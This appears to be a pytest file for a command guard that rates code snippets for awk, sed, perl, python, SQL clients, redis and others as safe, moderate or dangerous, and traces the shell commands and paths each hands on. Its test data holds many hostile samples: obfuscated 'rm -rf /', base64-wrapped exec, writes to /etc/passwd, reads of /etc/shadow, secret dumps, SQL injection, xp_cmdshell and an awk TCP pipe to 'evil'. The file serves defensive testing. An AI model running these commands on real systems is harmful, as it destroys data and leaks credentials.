"""Code on the command line: what is harmless in each language, what is not, and what it hands on to shells and files."""

from __future__ import annotations

import random
import string
import subprocess
import sys
from pathlib import Path

import pytest

from opsterm.guard_code import analyse, languages
from opsterm.risk import DANGEROUS, FORBIDDEN, LEVELS, MODERATE, SAFE

WIPE = "rm -rf /"
# program → level → code that has exactly this level (what it hands to shells and files is judged elsewhere: see HANDS).
LEVELLED = {
    "awk": {
        SAFE: [
            "{print $1}", "NR==1", "$3 > 100", "$3>100{n++} END{print n}", "{print ($1 > 3)}", "{a[$1 > 2]++}", "/a|b/", 'BEGIN{FS=":"} {print $1, $NF}',
            "{sub(/system\\(/, \"\")} 1", "{printf \"%s | %s > %s\\n\", $1, $2, $3}", '/"/{n++} END{print n}', "{x = $1 / 2; y = 3 / x; print x, y}",
            "BEGIN { while (i++ < 3) print i }", "function f(x) { return x*2 } {print f($1)}", "{print > \"/dev/stderr\"}", 'BEGIN{print ENVIRON["HOME"]}', "!seen[$0]++",
            "{n = split($0, a, /[/:]/); print a[n]}", "{print length}", "/[/]/", "$1 ~ /^#/ || $2 != \"x\" {next} {print}", "{a = b ? c : d; print a}", "BEGIN{ARGV[1]=\"\"}",
            'BEGIN { getline line; print line }', '{ $2 = ""; print }', "{ print $1 \\\n , $2 }", 'END{print s+0 "\\n"}', "/start/,/end/", "{gsub(/\\//, \"-\")}1", "close(x)",
        ],
        MODERATE: [
            "{print > $1}", '{print > $1 ".txt"}', '{print >> "log"}', '{print $1, $2 > "out"}', "{print \0}", "/\0/", '{print "', "/abc", '{printf("%s", $1) > "out"}',
            '{ while ((getline line < $1) > 0) print line }', "{print a > b ? c : d}", "{ SYMTAB[$1] = 2 }", "# system(\"x\")\n{print}",  'BEGIN{ARGV[1]=x}',
        ],
        DANGEROUS: [
            "{system($1)}", "{system(\"rm \" $1)}", "{print | $1}", "{cmd | getline}", '"ls " $1 | getline', '@load "filefuncs"', "@include \"x\"", 'BEGIN{f="system"; @f("x")}',
            '{print |& "/inet/tcp/0/evil/80"}', 'BEGIN{for (k in ENVIRON) print k, ENVIRON[k]}', 'BEGIN{print ENVIRON["AWS_SECRET_ACCESS_KEY"]}', "{awk::system($0)}", "system", '{print "x" | "sh -c " $1}',
            "{s = \"sys\" \"tem\"; @s(\"id\")}", "{system (\n$1)}", 'BEGIN { "/inet/tcp/0/h/1" |& getline }',
        ],
    },
    "sed": {
        SAFE: [
            "s/a/b/", "s/a/b/g;s/c/d/2p", "/x/d", "1,5p", "$!N", "s|/usr|/opt|g", "s,a\\,b,c,I", "y/abc/xyz/", "1~2d", "/a/,/b/{/c/d;p}", "/a/I,+3!d", ":a;N;$!ba;s/\\n/ /g",
            "/x/a hello; world", "1i\\\nfirst\\\nsecond", "c\\text", "/x/{\ns/a/b/\n}", "s/x/\\\n/", "10q", "5q3", "$=", "l 20", "s/a/w/", "s/a/e/", "/e/p", "s/[^/]*$//", "s/[/]/x/", "s/x/y/w /dev/stdout",
            "/^#/!s/^/#/", "0,/x/s//y/", "\\,/bin,d", "\\|a|,\\|b|p", "1!G;h;$!d", "s/\\(a\\)/\\1&/m", "# comment with e and w", "n;d", "$!{h;d}", "/x/{n;s/a/b/;}", "bend;s/a/b/;:end", "s#a#b#;;p", "z;x;G", "F", "2,$ { p ; d }", "v 4.2",
            "/a/,~4d", "s/a/b/;ta;s/c/d/;:a", "$!{N;ba}", "1d;$d", "/x/{a\\\nnew\n}",
        ],
        MODERATE: ["s/a/b/w out", "w file", "/x/W file", "s/\0/b/", "s/a/\0/g", "\0", "/\0/d", "s/a/b", "s/a/b/k", "k", "{p", "p}", "s/a\nb/c/", "1,d", "r", "s/a/b/ p"],
        DANGEROUS: ["e", "1e", "s/.*/date/e", "s/a/b/ge", "s/a/b/2e", "s\ta\tb\te", "sxaxbxe", "/x/{e\n}", "s/a/b/;e", "y/a/b/;s/x/id/e", "p;;e", "s/x/y/\ne", "/e/e", "a text\ne", "s/a/b/Ie", "s/a/rm -rf \\//e"],
    },
    "jq": {
        SAFE: [".", ".a.b[0]", ".env", ".[] | select(.env == 1)", "{env: .x}", '"env"', '"\\(.a)"', "$x | .y", "env.HOME", "$ENV.PATH", "# env\n.", "[.[] | .name] | sort", "to_entries", ". as $env | .x", '.a | test("env")'],
        MODERATE: ["\0", ".\0", "input_filename", 'include "x"; .', 'import "a" as a; .'],
        DANGEROUS: ["env", "$ENV", "$ENV.TOKEN", "env.AWS_SECRET_KEY", 'env | .["X"]', '"\\(env)"', '"\\("a" + $ENV.X)"', ".a, env", "env|keys"],
    },
    "yq": {SAFE: [".a", ".a.b = 3"], MODERATE: ['load("x.yml")', "eval(.x)"], DANGEROUS: ["strenv(SECRET)", "env(X)"]},
    "bc": {SAFE: ["1+1", "scale=2; 10/3", "while (i < 3) { i }"], MODERATE: ["\0"]},
    "dc": {SAFE: ["2 3 + p", "[1p]sa", "1 2 !=a"], MODERATE: ["?"]},
    "perl": {
        SAFE: [
            "s/a/b/g", "print if /x/", "print unless $seen{$_}++", '$s += $F[1]; END { print "$s\\n" }', "print scalar reverse $_", 'print join(",", sort { $a <=> $b } @F), "\\n"', "y/a-z/A-Z/", "tr/a-z//cd",
            "s{/usr}{/opt}g", "s/(\\d+)/$1+1/e", "s/(\\w+)/ucfirst($1)/ge", "print $1 if m{^(.*)/}", 'printf "%.2f\\n", 3.14159', "print 'a' x 3", 'print "-" x80, "\\n"', "BEGIN { $/ = undef } s/\\n+/\\n/g", "$_ = lc", "use POSIX; print strftime('%F', localtime)",
            "use strict; use warnings; my $x = 1; print $x", "print $., ': ', $_", "next if /^#/; print", "while (<>) { print if 1..3 }", 'say for map { $_ * 2 } 1..5', "print $#F", "print time", "print $^V", "$h{$1}++ while /(\\w+)/g; END { print \"$_ $h{$_}\\n\" for sort keys %h }",
            "print STDERR $_", "close ARGV if eof", "print $ENV{HOME}", "my %h = (system => 1, exec => 2); print keys %h", "print qq{a $x b}", "print q(system('x'))", "# system('x')\nprint", "$x / 2 / 3", "print $x{open}", "print sprintf('%s', 1)", "print \"$ARGV: $_\"",
        ],
        DANGEROUS: [
            "system('id')", "exec 'id'", "`id`", "qx(id)", "qx'id'", "print `id`", "open(F, '>x')", "unlink 'x'", "eval $_", "require 'x'", "use Socket", "do 'file'", "do \"/tmp/x\"", "s/x/y/ee", "s/x/`id`/e", "s/x/system(1)/e", "/(?{ system 'id' })/", "m{(??{ x })}",
            'print "@{[ system(1) ]}"', 'print "${\\ system(1)}"', 'print "$x[`id`]"', "@ARGV = ('id|'); print <>", "print <$fh>", "<*.c>", "&foo", "&$x", "$x->()->run", "Foo->bar", "print $_ for glob '*'", "%ENV", "print $ENV{TOKEN}", "fork", "kill 9, 1", "print {$out} 1", "sub f { } f()",
            "$SIG{ALRM} = 'x'", "\0", "s/\0/b/", "push @ARGV, 'id|'; print <>", "syscall 1", "rename 'a', 'b'", "mkdir 'x'", "chmod 0777, 'x'", "print F 1", "*f = 1", "no such thing", "s'a'`id`'e", "y/a", "CORE::system('id')", "local @ARGV = 'id|'; <>",
        ],
    },
    "python3": {
        SAFE: [
            "print(1)", "import sys; print(sys.version)", "import json,sys; print(json.load(sys.stdin)['a']['b'])", "import json, sys; json.dump(json.load(sys.stdin), sys.stdout, indent=2)", "import time; print(int(time.time()))", "import math; print(math.pi * 2 ** 10)",
            "from datetime import datetime, timedelta; print(datetime.now() - timedelta(days=3))", "import sys\nfor line in sys.stdin:\n    print(line.strip().upper())", "import os; print(os.getcwd())", "import os.path; print(os.path.realpath('x'))", "import socket; print(socket.gethostname())",
            "import base64, sys; print(base64.b64decode(sys.argv[1]).decode())", "import hashlib; print(hashlib.sha256(b'x').hexdigest())", "import random, string; print(''.join(random.choices(string.ascii_letters, k=12)))", "import secrets; print(secrets.token_hex(16))", "import urllib.parse, sys; print(urllib.parse.quote(sys.argv[1]))",
            "import uuid; print(uuid.uuid4())", "import ipaddress; print(ipaddress.ip_network('10.0.0.0/8').num_addresses)", "import re, sys; print(re.findall(r'\\d+', sys.stdin.read()))", "import platform; print(platform.python_version())", "print(sum(x * x for x in range(10)))", "print open('/etc/hosts').read()",
            "def f(n):\n    return 1 if n < 2 else n * f(n - 1)\nprint(f(5))", "import sysconfig; print(sysconfig.get_paths()['purelib'])", "from importlib.metadata import version; print(version('pip'))", "print(open('a.txt').read())", "with open('x') as f: print(len(f.readlines()))", "import sys; print sys.version", "import calendar; print(calendar.month(2024, 1))",
            "import collections, sys; print(collections.Counter(sys.stdin.read().split()).most_common(3))", "print('os.system(1)')", "x = print; x(1)", "import os; print(os.cpu_count(), os.sep)", "import csv, sys\nfor row in csv.reader(sys.stdin): print(row[0])", "print(f'{1+1:>5}')", "try:\n    int('x')\nexcept ValueError as e:\n    print(e)",
        ],
        MODERATE: ["import sys; print(open(sys.argv[1]).read())"],
        DANGEROUS: [
            "import os; os.system('id')", "import subprocess", "import os; os.remove('x')", "exec('x')", "eval('1')", "__import__('os')", "().__class__.__bases__[0].__subclasses__()", "getattr(x, 'y')", "open('x', 'w')", "open('x', mode='a')", "open('x', m)", "import os; print(os.environ)", "import os; print(os.getenv('TOKEN'))",
            "from os import environ; print(environ)", "import socket; s = socket.socket()", "import http.server", "import ctypes", "import pickle", "import urllib.request", "import sys; sys.modules['os']", "import platform; platform.os.system('x')", "import json as j; j.codecs.open('x', 'w')", "import random; random._os.system('x')", "from math import *",
            "import shutil; shutil.rmtree('x')", "import requests", "e = exec; e('x')", "f = open; f('x', 'w')", "import os as o; o.popen('id')", "class X: pass", "print(", "\0", "print('\0')", "import sys; sys.stdout = 1", "import re; re.sub.__globals__", "'{0.__globals__}'.format(print)", "import builtins", "globals()['x']", "import os\nx = os", "from os import system as print",
            "import operator; operator.attrgetter('x')", "lambda: os.system('x')", "vars()", "[x for x in ().__class__.__mro__]", "import importlib; importlib.import_module('os')", "del os.path", "async def f(): pass", "import yaml; yaml.load(x)", "import sys; sys.path.insert(0, 'x')", "from . import x", "from pathlib import Path; Path('x').unlink()", "import codecs", "breakpoint()", "x = iter([]); x.gi_frame.f_globals", "x = 1; x.frob()",
        ],
    },
    "ruby": {
        SAFE: ["puts 1", "puts RUBY_VERSION", "puts 'a' + 'b'", "p 2**10", "puts Time.now.to_i", "puts [1, 2].sum", "require_nothing = 1" * 0 or "puts 3 / 2", "puts ENV['HOME']"],
        DANGEROUS: ["system 'id'", "`id`", "%x(id)", "puts `id`", 'puts "#{`id`}"', "exec 'id'", "require 'socket'", "eval 'x'", "File.delete 'x'", "ARGF.each { |l| puts l }", "puts ENV['SECRET']", "puts ENV.to_h", "x = 1", "Kernel.send(:system, 'id')", "puts File.read('x')", "\0", "open('|id')", "IO.popen 'id'", "puts '\0'"],
    },
    "node": {
        SAFE: ["console.log(process.version)", "1 + 1", "console.log('a', 2)", "process.versions.v8", "console.log(require('os').cpus().length)", "require('./package.json').version", "console.log(Date.now())", "console.log(Math.max(1, 2))", "new Date().toISOString()", "require('crypto').randomBytes(32).toString('hex')", "console.log(process.env.HOME)"],
        DANGEROUS: ["require('child_process')", "require('fs')", "process.exit()", "console.log(process.env)", "process.env.TOKEN", "eval('1')", "`${process}`", "fetch('http://x')", "require('./x')", "(()=>{})()", "this.constructor.constructor('x')()", "process['env']", "x = 1", "\0", "import('fs')", "process.binding('x')", "require('os' + x)", "/x/.test(1)", "console.log(`${1}`)"],
    },
    "php": {
        SAFE: ["echo phpversion();", "echo PHP_VERSION;", "echo 1 + 2;", "print 'x';", "echo ini_get('memory_limit');", "echo date('Y-m-d');"],
        DANGEROUS: ["phpinfo();", "system('id');", "echo `id`;", "echo shell_exec('id');", "unlink('x');", "echo $x;", 'echo "$x";', "eval('x');", "include 'x';", "echo getenv('TOKEN');", "file_put_contents('x', 1);", "('sys'.'tem')('id');", "assert('x');", "echo file_get_contents('x');"],
    },
    "lua": {SAFE: ["print(1)", "print(_VERSION)", "print(math.sqrt(2))", "print(os.date())"], DANGEROUS: ["os.execute('id')", "io.popen('id')", "os.remove('x')", "require 'x'", "dofile('x')", "load('x')()", "os['execute']('id')", "_G.os.execute('x')", "os.exit()"]},
    "Rscript": {SAFE: ["print(1)", "cat(R.version.string)", "mean(c(1, 2, 3))", "sessionInfo()", "packageVersion('x')"], DANGEROUS: ["system('id')", "unlink('x')", "source('x')", "eval(parse(text='x'))", "install.packages('x')", "Sys.getenv()", "x <- 1", "file.remove('x')"]},
    "mysql": {
        SAFE: [
            "SELECT 1", "select * from t where a = 'drop table x;'", "SHOW DATABASES; SHOW TABLES;", "DESCRIBE t", "EXPLAIN SELECT 1", "EXPLAIN DELETE FROM t", "USE x; SELECT count(*) FROM t\\G", "SELECT 'it\\'s; DROP TABLE x'", "SELECT `drop` FROM `delete`", "-- drop table x\nSELECT 1", "# DROP TABLE x\nSELECT 1", "/* DROP TABLE x */ SELECT 1",
            "SELECT user, host FROM mysql.user", "SELECT @x := 1", "SET @a = 1", "SET NAMES utf8", "SELECT a INTO @x FROM t", "(SELECT 1) UNION (SELECT 2)", "SHOW PROCESSLIST", "SHOW GRANTS", "WITH a AS (SELECT 1) SELECT * FROM a", "START TRANSACTION; SELECT 1; ROLLBACK", 'SELECT "; DROP TABLE x"', "status", "SELECT updated_at, deleted FROM t ORDER BY 1",
            "SELECT count(*) FROM mysql.user",
        ],
        MODERATE: ["INSERT INTO t VALUES (1)", "UPDATE t SET a = 1 WHERE id = 2", "DELETE FROM t WHERE id = 2", "DELETE FROM t WHERE id = 1 OR id = 2", "DELETE FROM t LIMIT 5", "CREATE TABLE t (a int)", "ALTER TABLE t ADD b int", "GRANT SELECT ON x.* TO u", "FLUSH PRIVILEGES", "KILL 5", "SELECT * FROM \0", "\0", "SELECT '\0'", "frobnicate t", "DROP INDEX i ON t", "SET GLOBAL x = 1", "OPTIMIZE TABLE t", "ALTER TABLE t ALTER c DROP DEFAULT", "REPLACE INTO t VALUES (1)", "CALL p()", "LOAD DATA INFILE 'x' INTO TABLE t", "SELECT LOAD_FILE('/etc/hosts')"],
        DANGEROUS: [
            "DROP TABLE t", "drop\ttable if exists t", "DROP/**/TABLE t", "DR/**/OP TABLE t; DROP TABLE t", "/*!50000 DROP TABLE t */", "/*! DROP */ TABLE t", "/*!DROP TABLE t*/", "SELECT 1; DROP DATABASE x", "DELETE FROM t", "DELETE FROM t WHERE 1", "DELETE FROM t WHERE 1=1", "DELETE FROM t WHERE (1 = 1)", "DELETE FROM t WHERE true", "DELETE FROM t WHERE 'a'='a'", "DELETE FROM t WHERE id = id", "DELETE FROM t WHERE id=5 OR 1=1", "DELETE FROM t WHERE 2>1", "DELETE FROM t WHERE name LIKE '%'",
            "DELETE FROM t -- WHERE id = 1", "DELETE FROM t /* WHERE id = 1 */", "DELETE FROM t # WHERE id = 1", "UPDATE t SET a = 'WHERE id = 1'", "UPDATE t SET a = 1", "TRUNCATE t", "TRUNCATE TABLE t", "ALTER TABLE t DROP COLUMN a", "ALTER TABLE t DROP a", "SELECT * FROM t INTO OUTFILE '/tmp/x'", "SELECT 1 INTO DUMPFILE '/x'", "SHUTDOWN", "RESET MASTER", "STOP SLAVE", "PURGE BINARY LOGS TO 'x'", "SELECT * FROM mysql.user", "SELECT user, authentication_string FROM mysql.user", "DROP USER u",
            "source x.sql", "\\. x.sql", "SELECT 'a\\\\'; DROP TABLE t; -- '", "SELECT 1 --DROP\n; DROP TABLE t", "/* /* */ DROP TABLE t; -- */", "PREPARE s FROM 'DROP TABLE t'; EXECUTE s", "SELECT sys_exec(x)", "SELECT sys_eval('id')", "SET PASSWORD = 'x'", "ALTER USER u IDENTIFIED BY 'x'", "DROP VIEW v", "CREATE FUNCTION f RETURNS int SONAME 'x.so'", 'DELETE FROM t WHERE "a"="a"', "DELETE FROM t WHERE NOT false",
        ],
        FORBIDDEN: ["DROP DATABASE mysql", "drop schema if exists `mysql`"],
    },
    "psql": {
        SAFE: [
            "SELECT 1", "\\dt", "\\d+ users", "\\l", "\\x on", "\\timing", "\\conninfo", "\\du", "SELECT $$; DROP TABLE x$$", "SELECT $a$ ' ; DROP TABLE x $a$", "SELECT 'a\\'", "/* /* DROP TABLE x; */ still */ SELECT 1", "COPY t TO STDOUT", "COPY (SELECT 1) TO STDOUT CSV", "SELECT pg_size_pretty(pg_database_size('x'))", "EXPLAIN ANALYZE SELECT 1", "VALUES (1)", "TABLE x", "SELECT \"drop table\" FROM t",
            "SELECT * FROM pg_stat_activity", "BEGIN; SELECT 1; COMMIT;", "SHOW all", "\\copy t to stdout", "SELECT usename FROM pg_shadow", "\\set x 1", "SELECT * FROM t FOR UPDATE", "SELECT now() \\g", "\\c otherdb",
        ],
        MODERATE: ["SELECT pg_terminate_backend(5)", "SELECT * INTO x FROM t", "VACUUM FULL t", "ANALYZE", "COPY t FROM STDIN", "CREATE INDEX i ON t (a)", "SELECT pg_read_file('x')", "COPY t TO '/tmp/x'", "\\o out.txt", "SELECT setval('s', 1)", "WITH x AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM x", "\\copy t from 'x.csv'", "\\frob", "REFRESH MATERIALIZED VIEW v", "WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x", "EXPLAIN ANALYZE INSERT INTO t VALUES (1)"],
        DANGEROUS: [
            "DROP TABLE t", "DROP DATABASE x", "DROP SCHEMA public CASCADE", "DROP OWNED BY u", "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", "DO $$ BEGIN DELETE FROM t; END $$", "DO $$BEGIN EXECUTE 'DROP TABLE t'; END$$", "SELECT * FROM pg_shadow", "SELECT rolpassword FROM pg_authid", "TABLE pg_authid", "COPY t TO PROGRAM 'id'", "COPY t FROM PROGRAM 'id'", "SELECT lo_export(1, '/x')", "SELECT dblink('x', 'y')", "\\i x.sql", "\\gexec", "SELECT 'DROP TABLE x' \\gexec", "ALTER SYSTEM SET x = 1", "TRUNCATE a, b",
            "CREATE FUNCTION f() RETURNS int LANGUAGE plpythonu AS 'x'", "ALTER ROLE u SUPERUSER", "CREATE ROLE u SUPERUSER", "SELECT E'\\''; DROP TABLE t; --'", "SELECT '\\'; DROP TABLE t; --'", "WITH a AS (SELECT 1) DELETE FROM t", "REASSIGN OWNED BY a TO b", "SELECT pg_promote()", "DELETE FROM t WHERE id IN (1) OR true", "SELECT query_to_xml('DELETE FROM t', true, true, '')", "UPDATE t SET x = 1 RETURNING *", "DELETE FROM t USING u", "\\x \\i x.sql",
        ],
    },
    "sqlite3": {
        SAFE: ["SELECT * FROM t", ".tables", ".schema t", ".headers on\n.mode column\nSELECT 1;", "PRAGMA table_info(t)", "PRAGMA integrity_check", "PRAGMA journal_mode", ".dump", "SELECT [drop table] FROM t", ".databases"],
        MODERATE: ["INSERT INTO t VALUES (1)", "VACUUM", "PRAGMA journal_mode=WAL", "PRAGMA user_version(3)", "ATTACH 'x.db' AS x", ".import x.csv t", ".output out.txt", ".backup x.db", ".frob", ".once x", "SELECT readfile('x')"],
        DANGEROUS: ["DROP TABLE t", "DELETE FROM t", "SELECT load_extension('x')", "SELECT writefile('x', 'y')", ".read x.sql", ".load x", "PRAGMA writable_schema=1", ".rea x.sql", ".restore x.db"],
    },
    "sqlcmd": {SAFE: ["SELECT 1", "SELECT name FROM sys.databases", "SELECT 1\nGO"], DANGEROUS: ["EXEC xp_cmdshell 'id'", "EXEC master..xp_cmdshell @x", "EXEC('DROP TABLE t')", ":r x.sql", "DROP LOGIN u", "exec [xp_cmdshell] 'id'"], FORBIDDEN: ["DROP DATABASE master"]},
    "cqlsh": {SAFE: ["DESCRIBE KEYSPACES", "SELECT * FROM ks.t", "CONSISTENCY"], MODERATE: ["INSERT INTO t (a) VALUES (1)", "COPY t FROM 'x.csv'", "CAPTURE 'out'"], DANGEROUS: ["DROP KEYSPACE ks", "TRUNCATE ks.t", "SOURCE 'x.cql'"]},
    "clickhouse-client": {SAFE: ["SELECT count() FROM t", "SHOW TABLES", "EXISTS t"], MODERATE: ["OPTIMIZE TABLE t", "SYSTEM FLUSH LOGS", "ALTER TABLE t DELETE WHERE id = 1"], DANGEROUS: ["DROP TABLE t", "ALTER TABLE t DELETE WHERE 1", "ALTER TABLE t DROP PARTITION 1", "SYSTEM SHUTDOWN", "SELECT * FROM executable('x', 'y')", "SELECT 1 INTO OUTFILE 'x'"]},
    "influx": {SAFE: ["SHOW DATABASES", 'SELECT * FROM cpu', 'from(bucket: "x") |> range(start: -1h)'], MODERATE: ['from(bucket: "x") |> to(bucket: "y")'], DANGEROUS: ["DROP DATABASE x", "DROP MEASUREMENT cpu", "DELETE FROM cpu"]},
    "redis-cli": {
        SAFE: ["GET a", "get a", "INFO", "PING", "DBSIZE", "SCAN 0", "TTL a", "LRANGE a 0 -1", "HGETALL h", "CONFIG GET maxmemory", "SLOWLOG GET 10", "client list", "ACL WHOAMI", "CLUSTER INFO", "memory usage k", "TYPE k\nGET k"],
        MODERATE: ["SET a 1", "DEL a", "KEYS *", "EXPIRE a 3", "CONFIG SET maxmemory 1gb", "LPUSH a 1", "UNLINK a", "CLIENT KILL x", "frob", "BGSAVE"],
        DANGEROUS: ["FLUSHALL", "flushdb async", "fLuShAlL", "SHUTDOWN NOSAVE", "DEBUG SEGFAULT", "CONFIG GET *", "CONFIG GET requirepass", "config get re*", "CONFIG SET dir /root/.ssh", "config set dbfilename x", "SLAVEOF h 1", "EVAL 'x' 0", "SCRIPT FLUSH", "MODULE LOAD x", "CLUSTER RESET", "ACL SETUSER x", "GET a\nFLUSHALL", "3 FLUSHALL", "'FLUSHALL'", "\0", "MONITOR", "ACL LIST", "SWAPDB 0 1", "FLUSHALL\0"],
    },
    "mongosh": {
        SAFE: ["db.users.find()", "db.users.find({a: 'drop()'}).limit(3)", "db.t.countDocuments({})", "show dbs", "use x", "rs.status()", "db.serverStatus()", "db.t.aggregate([{$match: {a: 1}}])", "db.t.getIndexes()", "db.adminCommand({serverStatus: 1})", "db.runCommand('ping')", "db.version()", "printjson(db.stats())", "db.currentOp()"],
        MODERATE: ["db.t.insertOne({a: 1})", "db.t.updateMany({}, {$set: {a: 1}})", "db.t.deleteOne({a: 1})", "db.t.deleteMany({a: 1})", "db.t.createIndex({a: 1})", "db.t.aggregate([{$out: 'x'}])", "db.t.frob()", "db.adminCommand({frob: 1})", "db.t.find({a: '\0'})"],
        DANGEROUS: ["db.dropDatabase()", "db.t.drop()", "db.t.deleteMany({})", "db.t.remove({})", "db.t.deleteMany( { } )", "db.shutdownServer()", "db.adminCommand({shutdown: 1})", "db.adminCommand({'shutdown': 1})", "load('x.js')", "run('id')", "require('fs')", "process.exit()", "db.t.find({$where: 'x'})", "db['t']['drop']()", "db.getSiblingDB('x').dropDatabase()", "eval('x')", "db.t.find().forEach(function(d) { db.u.drop() })", "db.dropAllUsers()"],
    },
    "vim": {SAFE: ["123", "+123", ":q", "wq" * 0 or ":q!", "set nu", "/pattern", "syntax on", "$"], MODERATE: ["%s/a/b/g", "wq", "d", "x", ":w"], DANGEROUS: ["call system('id')", "py3 import os", "source x.vim", "execute 'x'", "lua os.execute('id')"]},
    "gdb": {SAFE: ["bt", "info threads", "thread apply all bt", "print x", "set pagination off", "quit", "p $rip", "x/10i $pc"], MODERATE: ["run", "continue", "detach"], DANGEROUS: ["call (void)exit(0)", "print system(\"id\")", "source x", "python import os", "set var x = 1", "p x = 3", "dump memory f 0 1", "signal 9", "kill", "jump 3"]},
    "nosuch": {DANGEROUS: ["anything"]},
}
ROWS = [(program, level, code) for program, levels in LEVELLED.items() for level, codes in levels.items() for code in codes]

# program, code, and what it hands on: shells, calls, paths.
HANDS = [
    ("awk", 'BEGIN{system("rm -rf " "/")}', [WIPE], [], []),
    ("awk", 'BEGIN{system("rm" " -rf /")}', [WIPE], [], []),
    ("awk", 'BEGIN{ "rm -rf /" | getline }', [WIPE], [], []),
    ("awk", 'BEGIN{ while (("rm -rf /" | getline x) > 0) print x }', [WIPE], [], []),
    ("awk", '{print | "rm -rf /"}', [WIPE], [], []),
    ("awk", '{print $1 | "sort -n"; close("sort -n")}', ["sort -n"], [], []),
    ("awk", '{printf "%s", $1 |& "rm -rf /"}', [WIPE], [], []),
    ("awk", 'BEGIN{system("\\162m -rf /")}', [WIPE], [], []),
    ("awk", 'BEGIN{system("\\x72m -rf /")}', [WIPE], [], []),
    ("awk", 'BEGIN{system("rm -rf " dir)}', ["rm -rf \0"], [], []),
    ("awk", 'if (1) /"/; system("rm -rf /") #"/', [WIPE], [], []),
    ("awk", 'BEGIN{a = 1 / 2; system("rm -rf /"); b = 3 / 1}', [WIPE], [], []),
    ("awk", 'BEGIN{x++ / 2; system("rm -rf /"); y / 1}', [WIPE], [], []),
    ("awk", '/[/"]/{system("rm -rf /")}', [WIPE], [], []),
    ("awk", '{print > "/etc/passwd"}', [], [], [("write", "/etc/passwd")]),
    ("awk", '{print(1)>"/etc/passwd"}', [], [], [("write", "/etc/passwd")]),
    ("awk", '{print >> "/etc/" "passwd"}', [], [], [("append", "/etc/passwd")]),
    ("awk", 'BEGIN{while ((getline l < "/etc/shadow") > 0) print l}', [], [], [("read", "/etc/shadow")]),
    ("awk", 'BEGIN{ARGV[1] = "/etc/shadow"; ARGC = 2} 1', [], [], [("read", "/etc/shadow")]),
    ("sed", "1e rm -rf /", [WIPE], [], []),
    ("sed", "s/.*/rm -rf \\//e", [WIPE], [], []),
    ("sed", "s,x,rm -rf /,ge", [WIPE], [], []),
    ("sed", "s\x01a\x01rm -rf /\x01e", [WIPE], [], []),
    ("sed", "s/a/b/\n$!{e rm -rf /\n}", [WIPE], [], []),
    ("sed", "s/x/rm &/e", ["rm \0"], [], []),
    ("sed", "/x/w /etc/passwd", [], [], [("write", "/etc/passwd")]),
    ("sed", "s/a/b/gw /etc/passwd", [], [], [("write", "/etc/passwd")]),
    ("sed", "r /etc/shadow", [], [], [("read", "/etc/shadow")]),
    ("sed", "a\\\ne rm -rf /", [], [], []),
    ("dc", "1p !rm -rf /", [WIPE], [], []),
    ("perl", 'system("rm -rf /")', [WIPE], [], []),
    ("perl", "system 'rm', '-rf', '/'", [], [("rm", "-rf", "/")], []),
    ("perl", "system(qw(rm -rf /))", [], [("rm", "-rf", "/")], []),
    ("perl", "exec q{rm -rf /}", [WIPE], [], []),
    ("perl", "print `rm -rf /`", [WIPE], [], []),
    ("perl", "qx'rm -rf /'", [WIPE], [], []),
    ("perl", "qx{rm -rf /}", [WIPE], [], []),
    ("perl", "system('rm' . ' -rf /')", [WIPE], [], []),
    ("perl", 'print "@{[ `rm -rf /` ]}"', [WIPE], [], []),
    ("perl", "s/x/`rm -rf \\/`/e", ["rm -rf /"], [], []),
    ("perl", "unlink '/etc/passwd', '/etc/group'", [], [], [("delete", "/etc/passwd"), ("delete", "/etc/group")]),
    ("perl", "use File::Path; rmtree('/')", [], [], [("delete", "/")]),
    ("perl", "open(F, '>/etc/passwd')", [], [], [("write", "/etc/passwd")]),
    ("perl", "open(my $f, '>', '/etc/passwd')", [], [], [("write", "/etc/passwd")]),
    ("perl", "open F, 'rm -rf / |'", [WIPE], [], []),
    ("perl", "open(F, '-|', 'rm -rf /')", [WIPE], [], []),
    ("python3", "import os; os.system('rm -rf /')", [WIPE], [], []),
    ("python3.12", "from os import system as s; s('rm -rf /')", [WIPE], [], []),
    ("python3", "__import__('os').system('rm ' + '-rf /')", [WIPE], [], []),
    ("python3", "getattr(__import__('o' + 's'), 'sys' + 'tem')('rm -rf /')", [WIPE], [], []),
    ("python3", "import os; c = 'rm -rf /'; os.system(c)", [WIPE], [], []),
    ("python3", "import os; d = '/'; os.system(f'rm -rf {d}')", [WIPE], [], []),
    ("python3", "import os; os.system('rm -rf %s' % '/')", [WIPE], [], []),
    ("python3", "import os; os.system(' '.join(['rm', '-rf', '/']))", [WIPE], [], []),
    ("python3", "import subprocess; subprocess.run(['rm', '-rf', '/'])", [], [("rm", "-rf", "/")], []),
    ("python3", "import subprocess as s; s.Popen(args=('rm', '-rf', '/'))", [], [("rm", "-rf", "/")], []),
    ("python3", "import subprocess; subprocess.call('rm -rf /', shell=True)", [WIPE], [], []),
    ("python3", "from subprocess import check_output as c; c('rm -rf /', shell=True)", [WIPE], [], []),
    ("python3", "import os; os.execvp('rm', ['rm', '-rf', '/'])", [], [("rm", "-rf", "/")], []),
    ("python3", "import os; os.execlp('rm', 'rm', '-rf', '/')", [], [("rm", "-rf", "/")], []),
    ("python3", "exec('import os; os.system(\"rm -rf /\")')", [WIPE], [], []),
    ("python3", "exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgncm0gLXJmIC8nKQ=='))", [WIPE], [], []),
    ("python3", "f = __import__('os').system; f('rm -rf /')", [WIPE], [], []),
    ("python3", "import shutil; shutil.rmtree('/')", [], [], [("delete", "/")]),
    ("python3", "import shutil, os; shutil.rmtree(os.path.expanduser('~'))", [], [], [("delete", "~")]),
    ("python3", "import shutil, os; shutil.rmtree(os.path.join('/', 'etc'))", [], [], [("delete", "//etc")]),
    ("python3", "from pathlib import Path; Path('/etc/passwd').unlink()", [], [], [("delete", "/etc/passwd")]),
    ("python3", "import pathlib; (pathlib.Path('/etc') / 'passwd').write_text('')", [], [], [("write", "/etc/passwd")]),
    ("python3", "open('/etc/passwd', 'w').write('')", [], [], [("write", "/etc/passwd")]),
    ("python3", "print(open('/etc/shadow').read())", [], [], [("read", "/etc/shadow")]),
    ("python3", "import os; os.rename('/etc', '/x')", [], [], [("move", "/etc"), ("write", "/x")]),
    ("python2", "import os\nprint >>f, 1\nos.system('rm -rf /')", [WIPE], [], []),
    ("ruby", "system('rm -rf /')", [WIPE], [], []),
